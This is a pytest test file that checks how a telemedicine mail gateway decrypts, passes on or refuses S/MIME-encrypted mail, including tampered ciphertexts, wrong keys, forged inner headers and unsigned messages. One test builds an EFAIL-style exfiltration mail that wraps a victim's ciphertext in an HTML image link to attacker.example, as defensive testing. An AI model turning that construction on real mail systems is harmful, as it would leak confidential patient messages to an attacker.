"""Mail encrypted to the organisation and to people: what the gateway opens, passes on, refuses."""

from __future__ import annotations

import base64
import re
import smtplib
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from certs.envelopes import decrypt_message
from gateway.pipeline.stored_letters import stored_letter
from gateway.sealing import Sealing
from gateway.services import Services
from tests.support import region
from tests.support.certificates import run
from tests.support.encryption import (
    Holder,
    encrypted,
    entity_in,
    fields_of,
    holder,
    signing,
    text_entity,
    wrapped,
)
from tests.support.gateway import (
    Client,
    octets_after_header,
    read,
    refusal_text,
    text_of,
    words_of,
)
from tests.support.spaces import (
    HERE,
    Space,
    address_in,
    command,
    draft_of,
    pdf_text,
    played,
    raw_copy,
    sent,
    stored,
    two_operators,
)
from tests.support.threads import (
    Thread,
    answered,
    attachments,
    request_form,
    request_values,
)

pytestmark = pytest.mark.timeout(180)


@pytest.fixture(scope="module")
def space() -> Iterator[Space]:
    with two_operators() as made:
        yield made


@pytest.fixture
def thread(space: Space) -> Thread:
    return played(space)


# -- decrypted ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("which", "gcm"), [("keys", True), ("keys", False), ("old_keys", True)])
def test_members_here_get_the_decrypted_mail_with_its_signature_intact(
    space: Space, thread: Thread, tmp_path: Path, which: str, *, gcm: bool
) -> None:
    draft = draft_of(thread)
    target = getattr(space, which).target(gcm=gcm)
    raw = encrypted(draft, text_entity("Naevus benin, rien a faire."), [target], space.person(thread.expert))
    sent(thread, draft, raw)
    inside = decrypt_message(raw, [getattr(space, which).decryptor])
    for reader in (thread.requester, thread.expert):
        copy = raw_copy(thread, reader, draft)
        assert octets_after_header(copy) == octets_after_header(inside)
        mail = read(copy)
        assert mail["x-tle-decrypted"].startswith(f"{HERE}; cipher=aes256-{'gcm' if gcm else 'cbc'}")
        assert "smime=pass reason=decrypted" in " ".join(mail["authentication-results"].split())
        (tmp_path / "mail.eml").write_bytes(copy)
        anchors = space.here.settings.pki.anchors
        judged = run("openssl", "cms", "-verify", "-in", tmp_path / "mail.eml", "-CAfile", anchors)
        assert judged.returncode == 0, judged.stderr
        assert b"Naevus benin" in judged.stdout
    ((row, original, clear),) = space.here.ask(lambda services: stored(services, draft["message-id"]))
    assert original == raw
    assert clear is not None
    assert b"Naevus benin" in clear
    assert "decrypted: encrypted to a certificate of ours" in command(space.here, "explain", str(row.id))


def test_a_subject_hidden_outside_is_shown_to_members_and_believed(space: Space, thread: Thread) -> None:
    draft = draft_of(thread)
    del draft["subject"]
    draft["Subject"] = "Avis pour TLE cache"
    raw = encrypted(draft, text_entity("Voir."), [space.keys.target()], space.person(thread.expert))
    assert b"Avis pour TLE cache" not in raw
    assert b"Subject: [...]" in raw
    sent(thread, draft, raw)
    copy = raw_copy(thread, thread.requester, draft)
    assert read(copy)["subject"] == "Avis pour TLE cache"
    assert "headers-differ" not in read(copy)["authentication-results"]


def test_an_encrypted_request_opens_and_its_words_are_in_the_report(space: Space) -> None:
    asking, asked = (
        space.here.client(region.GP),
        space.here.client(region.DERMATOLOGIST),
    )
    form = request_form(asking, region.DERMATOLOGIST)
    reply = answered(asking, form, request_values(question="Lesion pigmentee evolutive"))
    entity = entity_in(reply.as_bytes())
    raw = encrypted(reply, entity, [space.keys.target()], space.person(asking))
    asking.send_bytes(raw, [address_in(reply)])
    confirmation = asking.answer_to(reply)
    reference = re.search(r"TLE-\d{4}-\d{6}", str(confirmation["subject"]))
    assert reference, text_of(confirmation)
    thread = Thread(reference[0], asking, asked, reply, confirmation)
    draft = draft_of(thread)
    sent(
        thread,
        draft,
        encrypted(draft, text_entity("Mots dechiffres."), [space.keys.target()], space.person(asked)),
    )
    thread.copy_of(asking, draft)
    assert "Mots dechiffres" in text_of(thread.form(asked, "Finaliser"))
    thread.finalise(asked)
    _, pdf = thread.report(asking)
    assert "Mots dechiffres" in pdf_text(pdf)
    assert "Lesion pigmentee" in pdf_text(pdf)


def test_what_was_decrypted_stays_readable_when_the_key_is_gone(space: Space, thread: Thread) -> None:
    draft = draft_of(thread)
    raw = encrypted(
        draft, text_entity("Avant le changement."), [space.old_keys.target()], space.person(thread.expert)
    )
    sent(thread, draft, raw)
    thread.copy_of(thread.requester, draft)
    ((row, _, _),) = space.here.ask(lambda services: stored(services, draft["message-id"]))

    async def words(services: Services) -> str:
        without = replace(services, own=replace(services.own, sealing=Sealing()))
        async with services.store.reading() as tx:
            letter = await stored_letter(without, tx, row.id)
        assert letter is not None
        return letter.text

    assert "Avant le changement." in space.here.ask(words)
    command(space.here, "rebuild", "--check")


def test_a_purge_takes_what_was_decrypted_with_the_ciphertext(space: Space) -> None:
    doctor = space.here.client(region.GP)
    draft = doctor.compose(region.STRANGER.address, "Courrier", "")
    raw = encrypted(draft, text_entity("A oublier."), [space.keys.target()], space.person(doctor))
    doctor.send_bytes(raw, [region.STRANGER.address])
    space.here.client(region.STRANGER).wait(lambda mail: mail["message-id"] == draft["message-id"])
    space.here.settled()

    async def purged(services: Services) -> Any:
        found = await stored(services, draft["message-id"])
        async with services.store.transaction() as tx:
            await tx.messages.purge(found[0][0].id)
        return await stored(services, draft["message-id"])

    ((_, original, clear),) = space.here.ask(purged)
    assert (original, clear) == (None, None)


# -- not opened ---------------------------------------------------------------------------------------------


def _changed(raw: bytes, position: int) -> bytes:
    """The mail with one octet of its CMS structure changed, counted from the end."""
    header, _, body = raw.partition(b"\r\n\r\n")
    cms = bytearray(base64.b64decode(body))
    cms[-position] ^= 1
    return header + b"\r\n\r\n" + base64.encodebytes(bytes(cms)).replace(b"\n", b"\r\n")


def _many_parts(number: int) -> bytes:
    parts = b"".join(b"--x\r\n\r\n%d\r\n" % each for each in range(number))
    return b"Content-Type: multipart/mixed; boundary=x\r\n\r\n" + parts + b"--x--\r\n"


def _bad_mails(space: Space, thread: Thread) -> dict[str, bytes]:
    """Mails to our key that must not be opened, each for a cause of its own."""
    author, other = space.person(thread.expert), space.person(thread.requester)
    words = text_entity("Secret du patient.")
    gcm, cbc = [space.keys.target()], [space.keys.target(gcm=False)]
    draft = draft_of(thread)

    def good(targets: Any) -> bytes:
        return encrypted(draft, words, targets, author)

    return {
        "tag": _changed(good(gcm), 1),
        "content of gcm": _changed(good(gcm), 60),
        "last block of cbc": _changed(good(cbc), 1),
        "padding of cbc": _changed(good(cbc), 17),
        "middle of cbc": _changed(good(cbc), 400),
        "content key": _with_wrong_key(space, draft, words, author),
        "unsigned cbc": wrapped(draft, words, cbc),
        "unsigned gcm": wrapped(draft, words, gcm),
        "signed by somebody else": encrypted(draft, words, gcm, other),
        "signed by a person of another operator": encrypted(
            draft, words, gcm, holder(space.there.settings, "x@voisin.mssante.example")
        ),
        "encrypted again": wrapped(draft, entity_in(good(gcm)), gcm),
        "too many parts": encrypted(draft, _many_parts(1500), gcm, author),
        "no entity": wrapped(draft, b"Content-Type: text/plain\r\n\r\n\x00\n", cbc),
    }


def _with_wrong_key(space: Space, draft: EmailMessage, words: bytes, author: Holder) -> bytes:
    """A mail that names our certificate and whose content key another one's holder could read."""
    own, other = space.keys, holder(space.here.settings, space.here.service)
    raw = encrypted(draft, words, [own.target()], author)
    header, _, body = raw.partition(b"\r\n\r\n")
    wrong = encrypted(draft, words, [other.target()], author).partition(b"\r\n\r\n")[2]
    cms, foreign = base64.b64decode(body), base64.b64decode(wrong)
    # Both are RSA 2048: 256 octets of encrypted key behind the same algorithm identifier.
    mark = bytes.fromhex("04820100")
    at, there = cms.index(mark) + 4, foreign.index(mark) + 4
    mixed = cms[:at] + foreign[there : there + 256] + cms[at + 256 :]
    return header + b"\r\n\r\n" + base64.encodebytes(mixed).replace(b"\n", b"\r\n")


def test_all_failures_have_one_answer_and_leave_nothing(space: Space, thread: Thread) -> None:
    mails = _bad_mails(space, thread)
    to = address_in(draft_of(thread))
    writer = thread.expert

    def answer(raw: bytes) -> str:
        session = Client(writer.address, writer.name, space.here)
        try:
            session.send_bytes(raw, [to])
        except smtplib.SMTPException as error:
            return refusal_text(error)
        finally:
            session.close()
        return "accepted"

    with ThreadPoolExecutor(len(mails)) as threads:
        answers = dict(zip(mails, threads.map(answer, mails.values()), strict=True))
    assert set(answers.values()) == {answers["tag"]}, answers
    assert answers["tag"].startswith("550 5.7.5 ")
    space.here.settled()
    assert all(b"Secret du patient" not in raw for raw, _ in thread.raw_seen_by(thread.requester))


def test_the_refusal_says_what_to_do_and_the_audit_trail_only_that_it_was(
    space: Space, thread: Thread
) -> None:
    draft = draft_of(thread)
    with pytest.raises(smtplib.SMTPException) as refused:
        sent(thread, draft, wrapped(draft, text_entity("Non signe."), [space.keys.target()]))
    assert "Signez-le" in refusal_text(refused.value)
    assert space.here.ask(lambda services: stored(services, draft["message-id"])) == []

    async def refusals(services: Services) -> list[str]:
        async with services.store.reading() as tx:
            lines = await tx.audit.list(limit=10_000)
        return [line.result for line in lines if line.action == "refuse"]

    assert set(space.here.ask(refusals)) == {"550 5.7.5"}


def test_what_is_for_others_too_and_is_not_opened_goes_to_them_untouched(
    space: Space, thread: Thread
) -> None:
    """Somebody whose own key is named can read it, whatever we make of it."""
    draft, reader = draft_of(thread), space.person(thread.requester)
    raw = wrapped(draft, text_entity("Pour deux."), [space.keys.target(gcm=False), reader.target(gcm=False)])
    sent(thread, draft, raw)
    copy = raw_copy(thread, thread.requester, draft)
    assert octets_after_header(copy) == octets_after_header(raw)
    assert read(copy)["x-tle-decrypted"] is None
    ((row, _, clear),) = space.here.ask(lambda services: stored(services, draft["message-id"]))
    assert clear is None
    assert "not opened or not authenticated" in command(space.here, "explain", str(row.id))


def test_mail_encrypted_between_users_passes_untouched_and_is_marked(space: Space, thread: Thread) -> None:
    draft, reader = draft_of(thread), space.person(thread.requester)
    raw = encrypted(draft, text_entity("Entre nous."), [reader.target()], space.person(thread.expert))
    sent(thread, draft, raw)
    copy = raw_copy(thread, thread.requester, draft)
    assert octets_after_header(copy) == octets_after_header(raw)
    assert b"Entre nous." in decrypt_message(copy, [reader.decryptor])
    assert read(copy)["x-tle-decrypted"] is None
    form = thread.form(thread.expert, "Finaliser")
    assert "message chiffré, non repris dans la synthèse" in words_of(form)
    answer = thread.requester.ask_service(f"Synthèse {thread.ref}")
    (pdf,) = [content for name, content in attachments(answer).items() if name.endswith(".pdf")]
    assert "Message chiffré, non repris dans la synthèse" in pdf_text(pdf)
    worklist = words_of(thread.requester.ask_service("Mes téléexpertises"))
    assert "1 message chiffré, non repris dans la synthèse" in worklist
    told = command(space.here, "explain", thread.ref)
    assert "encrypted end to end, not to a certificate of ours" in told
    thread.finalise(thread.expert)
    _, report = thread.report(thread.requester)
    assert "non repris dans le compte rendu" in pdf_text(report)


def test_an_encrypted_part_is_never_opened(space: Space, thread: Thread) -> None:
    """Direct exfiltration: somebody's ciphertext between two parts of HTML that would send it away."""
    draft = draft_of(thread)
    victim = encrypted(
        draft, text_entity("Secret du patient."), [space.keys.target()], space.person(thread.expert)
    )
    part = entity_in(victim)
    html = b"Content-Type: text/html\r\n\r\n"
    body = b"".join(
        b"--b\r\n%s\r\n" % each for each in (html + b"<img src='http://attacker.example/", part, html + b"'>")
    )
    header = b"".join(f"{name}: {value}\r\n".encode() for name, value in fields_of(draft))
    raw = (
        header
        + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        + body
        + b"--b--\r\n"
    )
    sent(thread, draft, raw)
    copy = raw_copy(thread, thread.requester, draft)
    assert octets_after_header(copy) == octets_after_header(raw)
    ((_, _, clear),) = space.here.ask(lambda services: stored(services, draft["message-id"]))
    assert clear is None


def test_fields_of_the_gateway_inside_of_the_encryption_are_not_believed(
    space: Space, thread: Thread
) -> None:
    draft, author = draft_of(thread), space.person(thread.expert)
    host = space.here.settings.hostname
    forged = (
        b"X-TLE-State: completed\r\nX-TLE-Decrypted: forged\r\nX-TLE-Place: INBOX\r\nBcc: x@y.fr\r\n"
        b"Authentication-Results: " + host.encode() + b"; smime=pass\r\n"
    )
    signed = signing(author)(text_entity("Champs forges."))
    raw = wrapped(draft, forged + signed, [space.keys.target()])
    sent(thread, draft, raw)
    copy = read(raw_copy(thread, thread.requester, draft))
    assert copy.get_all("x-tle-state") == ["in_progress"]
    assert [value.partition(";")[0] for value in copy.get_all("x-tle-decrypted", [])] == [HERE]
    assert len(copy.get_all("authentication-results", [])) == 1
    assert copy["bcc"] is None
    assert copy["x-tle-place"] is None


def test_an_encrypted_mail_in_doubt_is_released_decrypted(space: Space, thread: Thread) -> None:
    draft = draft_of(thread)
    for field in ("subject", "in-reply-to", "references"):
        del draft[field]
    draft["Subject"] = "Sans reference"
    raw = encrypted(
        draft, text_entity("Apres confirmation."), [space.keys.target()], space.person(thread.expert)
    )
    sent(thread, draft, raw)
    asked = thread.expert.answer_to(draft)
    assert "Sans reference" in text_of(asked)
    subject = re.search(r"Confirmer [A-Za-z0-9]+", text_of(asked).replace("\n", " "))
    assert subject, text_of(asked)
    thread.expert.send(thread.expert.compose(space.here.service, subject[0]))
    assert b"Apres confirmation." in raw_copy(thread, thread.requester, draft)


def test_the_same_ciphertext_twice_is_one_exchange(space: Space, thread: Thread) -> None:
    draft = draft_of(thread)
    raw = encrypted(draft, text_entity("Une fois."), [space.keys.target()], space.person(thread.expert))
    sent(thread, draft, raw)
    thread.copy_of(thread.requester, draft)
    sent(thread, draft, raw)
    space.here.settled()
    copies = [mail for mail, _ in thread.raw_seen_by(thread.requester) if b"Une fois." in mail]
    assert len(copies) == 1


def test_a_mail_as_large_as_allowed_comes_through(space: Space, thread: Thread) -> None:
    draft = draft_of(thread)
    line = b"A" * 76 + b"\r\n"
    photo = (
        b"Content-Type: application/octet-stream; name=scan.bin\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + line * 225_000
    )
    raw = encrypted(draft, photo, [space.keys.target()], space.person(thread.expert))
    assert 24_000_000 < len(raw) < space.here.settings.smtp.max_message_bytes
    sent(thread, draft, raw)
    assert raw_copy(thread, thread.requester, draft).count(line.strip()) == 225_000


def test_a_command_that_cannot_be_read_is_answered_as_such(space: Space) -> None:
    doctor = space.here.client(region.GP)
    form = request_form(doctor)
    reply = answered(doctor, form, request_values())
    del reply["subject"]
    reply["Subject"] = "Ma demande"
    raw = encrypted(reply, entity_in(reply.as_bytes()), [space.person(doctor).target()], space.person(doctor))
    doctor.send_bytes(raw, [space.here.service])
    assert "Ce message chiffré n'a pas pu être ouvert" in words_of(doctor.answer_to(reply))
